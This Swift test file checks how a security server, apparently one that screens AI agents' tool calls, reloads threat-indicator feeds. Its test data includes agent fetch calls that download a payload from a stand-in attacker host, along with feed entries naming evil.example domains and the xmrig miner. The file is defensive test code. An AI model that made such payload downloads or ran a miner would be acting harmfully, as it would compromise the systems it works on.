import BulwarkCore
import Foundation
import Testing
@testable import BulwarkServer

@Suite struct ThreatFeedTests {
    @Test func aChangedFeedIsReloadedWithoutARestart() async throws {
        let feed = FileManager.default.temporaryDirectory.appendingPathComponent("feed-\(UUID().uuidString).txt")
        try "domain: other.example\n".write(to: feed, atomically: true, encoding: .utf8)
        let server = try await TestServer.start {
            $0.indicatorFeeds = [feed.path]
            $0.feedReloadInterval = 0.1
        }
        let call = #"{"tool": "fetch", "arguments": {"url": "https://dl.evil.example/payload"}}"#
        #expect(!(try await server.inspect(call).body.contains("threat.domain")))
        try "domain: evil.example  # campaign X\n".write(to: feed, atomically: true, encoding: .utf8)
        var matched = false
        for _ in 0..<50 where !matched {
            try await Task.sleep(for: .milliseconds(100))
            matched = try await server.inspect(call).body.contains("threat.domain")
        }
        #expect(matched, "the new indicator is used within a few reload intervals")
        // A broken feed keeps the indicators in force and is audited.
        try "domian: typo.example\n".write(to: feed, atomically: true, encoding: .utf8)
        try await Task.sleep(for: .milliseconds(500))
        #expect(try await server.inspect(call).body.contains("threat.domain"))
        let audit = try await server.request("GET", "/v1/audit", admin: true).body
        #expect(audit.contains("indicators_reloaded") && audit.contains("indicators_reload_failed"))
    }

    /// A feed replaced by an older file (`cp -p`, `rsync -t`) next to a newer feed is noticed:
    /// each feed's own time, size and file number are compared, not the newest time.
    @Test func aFeedReplacedByAnOlderFileIsReloaded() async throws {
        let dir = FileManager.default.temporaryDirectory
        let a = dir.appendingPathComponent("feed-a-\(UUID().uuidString).txt")
        let b = dir.appendingPathComponent("feed-b-\(UUID().uuidString).txt")
        try "domain: other.example\n".write(to: a, atomically: true, encoding: .utf8)
        try "ip: 203.0.113.7\n".write(to: b, atomically: true, encoding: .utf8)
        let old = Date(timeIntervalSinceNow: -86_400)
        try FileManager.default.setAttributes([.modificationDate: old], ofItemAtPath: a.path)
        let server = try await TestServer.start {
            $0.indicatorFeeds = [a.path, b.path]
            $0.feedReloadInterval = 0.1
        }
        let call = #"{"tool": "fetch", "arguments": {"url": "https://dl.evil.example/payload"}}"#
        #expect(!(try await server.inspect(call).body.contains("threat.domain")))
        try "domain: evil.example\n".write(to: a, atomically: true, encoding: .utf8)
        try FileManager.default.setAttributes([.modificationDate: old.addingTimeInterval(-60)], ofItemAtPath: a.path)
        var matched = false
        for _ in 0..<50 where !matched {
            try await Task.sleep(for: .milliseconds(100))
            matched = try await server.inspect(call).body.contains("threat.domain")
        }
        #expect(matched, "the replaced feed is reloaded although it is older than the other")
    }

    /// The feeds are visible and reloadable through the API (admin only).
    @Test func theIndicatorsAPIListsAndReloadsTheFeeds() async throws {
        let feed = FileManager.default.temporaryDirectory.appendingPathComponent("feed-\(UUID().uuidString).txt")
        try "domain: evil.example\nip: 203.0.113.7\ncommand: xmrig\n".write(to: feed, atomically: true, encoding: .utf8)
        let server = try await TestServer.start {
            $0.indicatorFeeds = [feed.path]
            $0.feedReloadInterval = 3_600  // only an explicit reload picks changes up
        }
        let listed = try await server.request("GET", "/v1/indicators", admin: true)
        #expect(listed.json["indicators"]?["domain"]?.numberValue == 1 && listed.json["indicators"]?["command"]?.numberValue == 1, "\(listed.body)")
        #expect(listed.json["feeds"]?.arrayValue?.first?.stringValue == feed.path)
        #expect(try await server.request("GET", "/v1/indicators", sign: true).status == 403, "agents cannot read the feeds")
        try "domain: evil.example\ndomain: worse.example\n".write(to: feed, atomically: true, encoding: .utf8)
        let reloaded = try await server.request("POST", "/v1/indicators/reload", admin: true)
        #expect(reloaded.json["indicators"]?["domain"]?.numberValue == 2, "\(reloaded.body)")
        #expect(try await server.inspect(#"{"tool": "fetch", "arguments": {"url": "https://worse.example/"}}"#).body.contains("threat.domain"))
        try "domian: typo\n".write(to: feed, atomically: true, encoding: .utf8)
        let broken = try await server.request("POST", "/v1/indicators/reload", admin: true)
        #expect(broken.status == 422, "\(broken.body)")
        #expect(try await server.request("GET", "/v1/indicators", admin: true).json["indicators"]?["domain"]?.numberValue == 2, "the previous indicators stay")
    }
}
